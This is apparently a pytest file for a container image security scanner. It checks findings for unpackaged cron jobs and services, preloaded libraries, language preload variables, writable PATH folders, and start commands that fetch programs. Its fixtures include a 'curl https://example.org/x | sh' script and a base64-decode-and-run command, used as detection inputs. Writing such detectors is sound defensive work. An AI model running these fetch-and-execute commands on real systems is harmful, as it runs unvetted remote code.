"""What runs though the image does not say so: jobs, services, preloaded libraries, writable folders of PATH."""

from dataclasses import replace

import pytest

from config.vocabulary import Gravity
from scanning.facts import EntryKind, FileEntry
from scanning.hardening.catalogue import CHECKS
from scanning.layers.overlay import assemble
from scanning.oci.manifest import Platform
from tests.images import File
from tests.scanning.files.files import ELF
from tests.scanning.layers.test_belongings import packaged
from tests.scanning.layers.test_overlay import Content, HardLink, Link, config_of, image, layer, manifest_of

JOB = b"* * * * * root /opt/x\n"
FOLDERS = ("opt/open", EntryKind.DIRECTORY, 0o777), ("opt/sticky", EntryKind.DIRECTORY, 0o1777)


def jobs(*files: dict[str, Content]) -> list[tuple[str, Gravity | None]]:
    """The jobs found in an image of these layers, and how much each matters where that is not as usual."""
    facts = image(*(layer(one, name=str(number)) for number, one in enumerate(files)))
    return [(one.where, one.gravity) for one in facts.weaknesses if one.check == "H27"]


def in_environment(*entries: str, files: dict[str, Content] | None = None) -> list[tuple[str, str, Gravity]]:
    """What is found of an image with this environment: check, place and gravity."""
    made = layer(files or packaged("app", {}))
    folders = tuple(FileEntry(path, kind, mode) for path, kind, mode in FOLDERS)
    made = replace(made, entries=(*folders, *made.entries))
    config = replace(config_of(made, user="app"), environment=entries, healthcheck=("CMD", "/x"))
    facts = assemble(manifest_of(made), config, [made])
    gravities = {check.id: check.gravity for check in CHECKS.values()}
    return [(one.check, one.where, one.gravity or gravities[one.check]) for one in facts.weaknesses]  # type: ignore[misc]


@pytest.mark.parametrize(
    "path",
    [
        *("var/spool/cron/crontabs/root", "var/spool/cron/root", "etc/crontabs/root", "etc/cron.d/x", "etc/crontab"),
        *("etc/cron.daily/x", "etc/periodic/15min/x"),
    ],
)
def test_t90_a_job_of_cron_that_no_package_brought(path: str) -> None:
    assert jobs(packaged("cron", {}) | {path: JOB}) == [(path, None)]
    assert jobs(packaged("cron", {path: JOB}) | {path: JOB}) == []
    assert jobs(packaged("cron", {}) | {path: b""}) == []


def test_t90_a_job_of_a_package_that_was_changed() -> None:
    base = packaged("cron", {"etc/crontab": JOB}) | {"etc/crontab": JOB}
    assert jobs(base, {"etc/crontab": JOB * 2}) == [("etc/crontab", None)]


@pytest.mark.parametrize("path", ["etc/init.d/x", "etc/rc.local", "etc/systemd/system/x.service", "etc/inetd.conf"])
def test_t90_a_service_that_no_package_brought_weighs_less(path: str) -> None:
    assert jobs(packaged("init", {}) | {path: b"x"}) == [(path, Gravity.MEDIUM)]


def test_t90_jobs_are_found_where_links_lead() -> None:
    base = packaged("init", {"usr/lib/systemd/system/a.service": b"x"}) | {"usr/lib/systemd/system/a.service": b"x"}
    assert (
        jobs(base | {"etc/systemd/system/b.service": Link("/lib/systemd/system/a.service"), "lib": Link("usr/lib")})
        == []
    )
    assert jobs(base | {"etc/systemd/system/b.service": Link("/dev/null")}) == []
    assert jobs(base | {"etc/cron.d": Link("../opt/jobs"), "opt/jobs/x": JOB}) == [("opt/jobs/x", None)]
    assert jobs(base | {"etc/cron.d/x": Link("/opt/x"), "opt/x": JOB}) == [("opt/x", None)]
    assert jobs(base | {"opt/x": JOB, "etc/cron.d/x": HardLink("opt/x", 0o644)}) == [("etc/cron.d/x", None)]
    assert jobs(base | {"var/spool/cron/crontabs": Link("/etc/crontabs"), "etc/crontabs/a": JOB}) == [
        ("etc/crontabs/a", None)
    ]


def test_t92_a_library_that_every_program_loads_first() -> None:
    library = "usr/lib/x86_64-linux-gnu/libjemalloc.so.2"
    brought = packaged("jemalloc", {library: ELF}) | {library: File(ELF, 0o644)}
    for name in ("LD_PRELOAD", "LD_AUDIT"):
        place = f"env {name}"
        assert in_environment(f"{name}=/{library}", files=brought) == [("H27", place, Gravity.LOW)]
        assert in_environment(f"{name}=libjemalloc.so.2", files=brought) == [("H27", place, Gravity.LOW)]
        assert in_environment(f"{name}=/opt/x.so", files=brought | {"opt/x.so": ELF}) == [("H27", place, Gravity.HIGH)]
        assert in_environment(f"{name}=/not/there.so /{library}", files=brought) == [
            ("H27", place, Gravity.HIGH),
            ("H27", place, Gravity.LOW),
        ]
        assert in_environment(f"{name}=", files=brought) == []


@pytest.mark.parametrize(
    ("entry", "is_found"),
    [
        ("BASH_ENV=/opt/x", True),
        ("ENV=/opt/x", True),
        ("ENV=production", False),
        ("NODE_OPTIONS=--max-old-space-size=512 --require /opt/x.js", True),
        ("NODE_OPTIONS=--max-old-space-size=512", False),
        ("PERL5OPT=-Mx", True),
        ("RUBYOPT=-W0 -r/opt/x", True),
        ("RUBYOPT=--yjit", False),
        ("JAVA_TOOL_OPTIONS=-Xmx1g -javaagent:/opt/x.jar", True),
        ("JAVA_TOOL_OPTIONS=-Xmx1g", False),
        ("PYTHONSTARTUP=/opt/x.py", True),
    ],
)
def test_t92_code_that_every_program_of_a_language_runs_first(entry: str, is_found: bool) -> None:
    name = entry.partition("=")[0]
    assert in_environment(entry) == ([("H27", f"env {name}", Gravity.MEDIUM)] if is_found else [])


@pytest.mark.parametrize(
    ("path", "found"),
    [
        ("/usr/local/bin:/usr/bin:/bin:/opt/not/there", []),
        ("/usr/bin:/opt/open", [("H24", "opt/open", Gravity.HIGH)]),
        ("/opt/../opt//open/:/usr/bin", [("H24", "opt/open", Gravity.HIGH)]),
        ("/opt/sticky", [("H24", "opt/sticky", Gravity.MEDIUM)]),
        ("/opt/sticky/bin:/usr/bin", [("H24", "env PATH", Gravity.MEDIUM)]),
        ("/usr/bin:.", [("H24", "env PATH", Gravity.MEDIUM)]),
        ("node_modules/.bin", [("H24", "env PATH", Gravity.MEDIUM)]),
        ("/usr/bin:", [("H24", "env PATH", Gravity.MEDIUM)]),
    ],
)
def test_t91_folders_of_path_that_everybody_may_write_to(path: str, found: list[tuple[str, str, Gravity]]) -> None:
    assert in_environment("PATH=/usr/bin:/bin", f"PATH={path}") == found


def test_t119_of_a_name_that_is_there_twice_both_values_count() -> None:
    for first, last in (("--require=/opt/x.js", ""), ("", "--require=/opt/x.js")):
        entries = (f"NODE_OPTIONS={first}", f"NODE_OPTIONS={last}")
        assert in_environment(*entries) == [("H27", "env NODE_OPTIONS", Gravity.MEDIUM)]
    assert in_environment("LD_PRELOAD=/opt/x.so", "LD_PRELOAD=") == [("H27", "env LD_PRELOAD", Gravity.HIGH)]
    assert in_environment("PATH=/usr/bin:/opt/open", "PATH=/usr/bin") == [("H24", "opt/open", Gravity.HIGH)]


def test_path_of_an_image_for_windows_is_not_read_as_that_of_linux() -> None:
    made = layer({"Files/app.exe": b"MZ"})
    linux = replace(config_of(made), environment=("PATH=C:\\Windows;D:\\app",))
    windows = replace(linux, platform=Platform("windows", "amd64"))
    found = [{one.check for one in assemble(manifest_of(made), it, [made]).weaknesses} for it in (linux, windows)]
    assert found == [{"H14", "H24"}, {"H14"}]


@pytest.mark.timeout(60)
def test_t56_an_environment_of_very_many_folders_is_looked_at_in_no_time() -> None:
    many = ":".join(f"/a{number}/" + "a/" * 50 for number in range(1100))
    names = " ".join(f"x{number}" for number in range(18_000))
    found = in_environment(f"PATH={many}", f"LD_PRELOAD={names}", f"LD_AUDIT={'a' * (1 << 20)}")
    assert {(check, place) for check, place, _ in found} == {("H27", "env LD_PRELOAD")}


FETCH = b"#!/bin/sh\ncurl https://example.org/x | sh\n"


def started(*command: str, files: dict[str, Content] | None = None, check: bool = False) -> list[tuple[str, str]]:
    """Where an image that starts so fetches something, and what the finding says."""
    made = layer(files or {})
    config = replace(config_of(made), working_directory="/srv")
    config = replace(config, healthcheck=command) if check else replace(config, command=command)
    facts = assemble(manifest_of(made), config, [made])
    return [(one.where, one.detail) for one in facts.weaknesses if one.check == "H37"]


@pytest.mark.parametrize("check", [False, True])
def test_t94_a_command_that_fetches_what_it_runs(check: bool) -> None:
    ((where, detail),) = started("/bin/sh", "-c", "curl https://example.org/x | sh", check=check)
    assert where == "the image configuration"
    assert detail == f"{'the health check' if check else 'the command'} fetches a program and runs it"
    assert [detail for _, detail in started("sh", "-c", "apt-get install -y x && x", check=check)] == [
        f"{'the health check' if check else 'the command'} installs packages"
    ]
    assert [detail for _, detail in started("sh", "-c", "$(echo x | base64 -d)", check=check)] == [
        f"{'the health check' if check else 'the command'} decodes a program that nobody can read, and runs it"
    ]
    assert started("curl", "-f", "http://localhost/health", check=check) == []


@pytest.mark.parametrize(
    ("command", "path"),
    [
        (("/opt/start",), "opt/start"),
        (("sh", "/opt/start", "now"), "opt/start"),
        (("/bin/sh", "-c", "exec /opt/start&& true"), "opt/start"),
        (("./start",), "srv/start"),
        (("start",), "usr/local/bin/start"),
    ],
)
def test_t94_a_script_that_the_command_names(command: tuple[str, ...], path: str) -> None:
    assert started(*command, files={path: File(FETCH, 0o755)}) == [
        (path, "line 2 fetches a program and runs it, and the container starts with it")
    ]
    assert started(*command, files={path: Link("/x/y"), "x/y": File(FETCH, 0o755)})[0][0] == "x/y"
    assert started("/bin/app", files={path: File(FETCH, 0o755)}) == []
